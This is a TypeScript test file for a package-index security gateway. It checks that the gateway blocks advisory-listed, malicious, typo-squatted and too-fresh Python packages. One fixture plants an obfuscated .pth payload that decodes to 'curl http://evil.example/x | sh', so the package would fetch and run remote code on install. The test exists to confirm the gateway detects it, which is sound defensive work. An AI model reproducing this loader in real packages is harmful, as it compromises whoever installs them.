/**
 * Policy at the point of ingestion, end to end over HTTP: real intel from shared data, a real
 * loopback upstream, a gateway with a fake clock.
 */
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { startJsonIndexServer, type JsonIndexServer } from "../helpers/upstream-server.js";
import { startTestGateway, type TestGateway } from "../helpers/test-gateway.js";
import { buildWheel } from "../helpers/wheel-builder.js";
import { sharedDataDir } from "../helpers/shared-data.js";

const JSON_ACCEPT = "application/vnd.pypi.simple.v1+json";
const DAY = 24 * 3600 * 1000;
const T0 = Date.UTC(2026, 10, 27, 12, 0, 0);

type Page = {
  files: { filename: string; yanked: boolean | string; url: string }[];
  "project-status"?: { status: string };
};

describe("policy decides what the gateway serves", () => {
  let upstream: JsonIndexServer;
  let gw: TestGateway;
  let now = T0;
  const wheels: Record<string, { filename: string; sha256: string; bytes: Buffer }> = {};

  before(async () => {
    const old = new Date(T0 - 400 * DAY).toISOString();
    const mk = async (
      key: string,
      name: string,
      version: string,
      extra: Parameters<typeof buildWheel>[0] = { name, version },
    ) => {
      wheels[key] = await buildWheel({ ...extra, name, version });
    };
    await mk("django-old", "django", "1.0.1");
    await mk("django-fixed", "django", "1.1");
    await mk("tweepy-old", "tweepy", "2.3");
    await mk("tweepy-fixed", "tweepy", "2.3.1");
    await mk("requeests", "requeests", "1.0");
    await mk("reqeusts", "reqeusts", "2.0");
    await mk("litellm-bad", "litellm", "1.82.8");
    await mk("litellm-ok", "litellm", "1.82.6");
    await mk("fresh", "fresh-pkg", "1.0");
    await mk("pth", "innocent-helper", "0.1", {
      name: "innocent-helper",
      version: "0.1",
      files: {
        "innocent_helper/__init__.py": "",
        "innocent_helper_init.pth":
          "import os, subprocess, sys; exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovL2V2aWwuZXhhbXBsZS94IHwgc2giKQ=='))\n",
      },
    });
    const file = (key: string, uploadTime = old) => ({
      filename: wheels[key]!.filename,
      bytes: wheels[key]!.bytes,
      uploadTime,
    });
    upstream = await startJsonIndexServer({
      projects: {
        django: { files: [file("django-old"), file("django-fixed")] },
        tweepy: { files: [file("tweepy-old"), file("tweepy-fixed")] },
        requeests: { files: [file("requeests")] },
        reqeusts: { files: [file("reqeusts")] },
        litellm: { files: [file("litellm-ok"), file("litellm-bad")] },
        "fresh-pkg": { files: [file("fresh", new Date(T0 - 2 * DAY).toISOString())] },
        "innocent-helper": { files: [file("pth")] },
      },
    });
    gw = await startTestGateway({ upstream: upstream.simpleUrl, intelPoll: 0.05 }, { now: () => now });
    const data = sharedDataDir();
    for (const f of [
      "osv/pypa-advisory-database.zip",
      "osv/ossf-malicious-pypi.zip",
      "osv/ossf-malicious-pypi-names.jsonl",
      "top-pypi-packages.json",
    ]) {
      await gw.gateway.intel.importSource(join(data, f));
    }
    await gw.gateway.policy.refresh();
  });
  after(async () => {
    await gw?.close();
    await upstream?.close();
  });

  const page = async (project: string) => {
    const res = await fetch(`${gw.url}/simple/${project}/`, { headers: { accept: JSON_ACCEPT } });
    return { status: res.status, body: (await res.json()) as Page, reason: res.statusText };
  };
  const projectOf: Record<string, string> = {};
  const download = async (key: string) => {
    // A client finds files through the project page first; the gateway only serves files it has listed.
    const project = projectOf[key] ?? wheels[key]!.filename.split("-")[0]!.replace(/_/g, "-");
    await fetch(`${gw.url}/simple/${project}/`);
    return fetch(`${gw.url}/files/${wheels[key]!.sha256}/${wheels[key]!.filename}`);
  };

  test("a version named in a real PYSEC advisory is refused with the reason; its fixed version is admitted", async () => {
    // tweepy has exactly one advisory, PYSEC-2012-17, fixed in 2.3.1.
    const { body } = await page("tweepy");
    assert.equal(body.files.length, 2, JSON.stringify(body));
    const old = body.files.find((f) => f.filename === wheels["tweepy-old"]!.filename)!;
    assert.match(
      String(old.yanked),
      /^Refused by Portcullis: blocked by policy: vulnerability: .*PYSEC-2012-17.*use 2\.3\.1 instead/,
    );
    const fixed = body.files.find((f) => f.filename === wheels["tweepy-fixed"]!.filename)!;
    assert.equal(fixed.yanked, false);
    const refused = await download("tweepy-old");
    assert.equal(refused.status, 403);
    assert.match(refused.statusText, /PYSEC-2012-17/);
    assert.match(await refused.text(), /use 2\.3\.1 instead/);
    const ok = await download("tweepy-fixed");
    assert.equal(ok.status, 200);
    assert.equal(ok.headers.get("x-portcullis-decision"), "admitted");
    const decision = (await (
      await fetch(`${gw.url}/api/v1/decisions/${wheels["tweepy-fixed"]!.sha256}`)
    ).json()) as {
      outcome: string;
      stage: string;
      reasons: { check: string }[];
      intelSnapshot: string;
    };
    assert.equal(decision.outcome, "admitted");
    assert.equal(decision.stage, "full");
    assert.ok(decision.reasons.some((r) => r.check === "artifact"));
    assert.match(decision.intelSnapshot, /^intel-\d+:/);
    // django 1.0.1 is named by PYSEC-2007-1; 1.1 is not (that record says fixed: 1.1).
    const django = (await (await fetch(`${gw.url}/api/v1/decisions?project=django`)).json()) as {
      decisions: { version: string; reasons: { check: string; ids?: string[] }[] }[];
    };
    const ids = (v: string) =>
      django.decisions.find((d) => d.version === v)!.reasons.flatMap((r) => r.ids ?? []);
    assert.ok(ids("1.0.1").includes("PYSEC-2007-1"));
    assert.ok(!ids("1.1").includes("PYSEC-2007-1"));
  });

  test("a real MAL-* name is blocked, and the project answers 403 with PEP 792 status quarantined", async () => {
    const { status, body, reason } = await page("requeests");
    assert.equal(status, 403);
    assert.match(reason, /malicious/);
    assert.equal(body["project-status"]?.status, "quarantined");
    assert.equal((await download("requeests")).status, 403);
  });

  test("only the reported versions of a compromised popular project are blocked", async () => {
    const { status, body } = await page("litellm");
    assert.equal(status, 200);
    assert.match(String(body.files.find((f) => f.filename.includes("1.82.8"))!.yanked), /MAL-2026-2144/);
    assert.equal(body.files.find((f) => f.filename.includes("1.82.6"))!.yanked, false);
    assert.equal((await download("litellm-bad")).status, 403);
  });

  test("a typo-squat of a popular name is quarantined, with the name it imitates", async () => {
    const res = await download("reqeusts");
    assert.equal(res.status, 403);
    assert.match(
      res.statusText,
      /quarantined for review by policy: typosquat: "reqeusts" looks like a typo-squat of "requests"/,
    );
  });

  test("a .pth payload is refused on its bytes, with file:line evidence", async () => {
    const { body } = await page("innocent-helper");
    assert.equal(body.files[0]!.yanked, false, "listed while its bytes are not judged yet");
    const res = await download("pth");
    assert.equal(res.status, 403);
    assert.match(res.statusText, /artifact/);
    const d = (await (await fetch(`${gw.url}/api/v1/decisions/${wheels.pth!.sha256}`)).json()) as {
      outcome: string;
      reasons: { check: string; evidence: { file?: string; line?: number }[] }[];
    };
    assert.ok(["quarantined", "blocked"].includes(d.outcome));
    const artifact = d.reasons.find((r) => r.check === "artifact")!;
    assert.ok(artifact.evidence.some((e) => e.file === "innocent_helper_init.pth" && e.line === 1));
    const after = await page("innocent-helper");
    assert.equal(after.status, 403, "once judged, the refusal takes it off the listing");
  });

  test("a release under cooldown is admitted once the (fake) clock passes its age", async () => {
    assert.equal((await download("fresh")).status, 403);
    now += 6 * DAY;
    assert.equal((await download("fresh")).status, 200);
    const { body } = await page("fresh-pkg");
    assert.equal(body.files[0]!.yanked, false);
  });

  test("a fresh release skips the cooldown only when it fixes an advisory of the release just before it", async () => {
    // tweepy's one advisory, PYSEC-2012-17, affects 2.3 and is fixed in 2.3.1.
    const fresh = (version: string) => ({
      project: "tweepy",
      version,
      filename: `tweepy-${version}-py3-none-any.whl`,
      sha256: "c".repeat(64),
      uploadTime: new Date(now - 3600_000).toISOString(),
      yanked: false,
    });
    const cooldownOf = (version: string, versions: string[]) =>
      gw.gateway.policy.judgeIndex(fresh(version), { versions }).reasons.find((r) => r.check === "cooldown")!;
    const fix = cooldownOf("2.3.1", ["2.3", "2.3.1"]);
    assert.equal(fix.outcome, "pass", JSON.stringify(fix));
    assert.match(fix.message, /admitted early: it fixes PYSEC-2012-17/);
    // 2.3.1 already fixed it: 2.4 fixes nothing for the users of 2.3.1, so it waits like any release.
    const next = cooldownOf("2.4", ["2.3", "2.3.1", "2.4"]);
    assert.equal(next.outcome, "fail", JSON.stringify(next));
    assert.match(next.message, /releases wait 7 days/);
  });

  test("an exception waives a check until it expires", async () => {
    await gw.gateway.decisions.addException(
      {
        project: "reqeusts",
        version: "2.0",
        checks: ["typosquat"],
        reason: "internal fork, reviewed",
        approver: "alice",
        ticket: "SEC-1",
        "expires-at": new Date(now + DAY).toISOString(),
      },
      new Date(now).toISOString(),
    );
    await gw.gateway.policy.refresh();
    assert.equal((await download("reqeusts")).status, 200);
    now += 2 * DAY;
    assert.equal((await download("reqeusts")).status, 403, "expired exceptions stop applying by themselves");
  });

  test("re-evaluation after a new advisory takes an admitted file off the served view", async () => {
    assert.equal((await download("litellm-ok")).status, 200);
    const dir = mkdtempSync(join(tmpdir(), "osv-"));
    writeFileSync(
      join(dir, "PYSEC-2099-1.json"),
      JSON.stringify({
        id: "PYSEC-2099-1",
        modified: "2026-11-27T00:00:00Z",
        summary: "made-up advisory for the test",
        affected: [{ package: { ecosystem: "PyPI", name: "litellm" }, versions: ["1.82.6"] }],
      }),
    );
    const events: string[] = [];
    gw.gateway.policy.onDecisionChanged((evs) =>
      events.push(...evs.map((e) => `${e.filename}:${e.from}->${e.to}`)),
    );
    await gw.gateway.intel.importSource(dir);
    // The gateway notices the new intel generation on its own (poll) and re-judges.
    for (let i = 0; i < 100 && events.length === 0; i++) await new Promise((r) => setTimeout(r, 20));
    assert.ok(
      events.some((e) => e.startsWith(wheels["litellm-ok"]!.filename) && e.endsWith("admitted->blocked")),
      events.join(","),
    );
    // Both litellm files are now refused: the project answers 403 and says why.
    const { status, body } = await page("litellm");
    assert.equal(status, 403);
    assert.equal(body["project-status"]?.status, "quarantined");
    const res = await download("litellm-ok");
    assert.equal(res.status, 403);
    assert.match(res.statusText, /PYSEC-2099-1/);
  });

  test("a new release of a catalog project is pre-vetted in the background", async () => {
    // tweepy is in the catalog (its files were judged on their bytes above).
    const next = await buildWheel({ name: "tweepy", version: "2.4" });
    const old = new Date(now - 30 * DAY).toISOString();
    upstream.setProject("tweepy", {
      files: [
        { filename: wheels["tweepy-old"]!.filename, bytes: wheels["tweepy-old"]!.bytes, uploadTime: old },
        { filename: wheels["tweepy-fixed"]!.filename, bytes: wheels["tweepy-fixed"]!.bytes, uploadTime: old },
        { filename: next.filename, bytes: next.bytes, uploadTime: old },
      ],
    });
    now += 3600 * 1000; // past the page TTL: the gateway revalidates and sees the new release
    await page("tweepy");
    await gw.gateway.services.preVetter!.idle();
    const d = (await (await fetch(`${gw.url}/api/v1/decisions/${next.sha256}`)).json()) as {
      outcome: string;
      stage: string;
    };
    assert.equal(d.stage, "full");
    assert.equal(d.outcome, "admitted");
    assert.equal(
      upstream.requests.get(`/files/${next.filename}`),
      1,
      "fetched by the gateway, before any user asked",
    );
  });
});
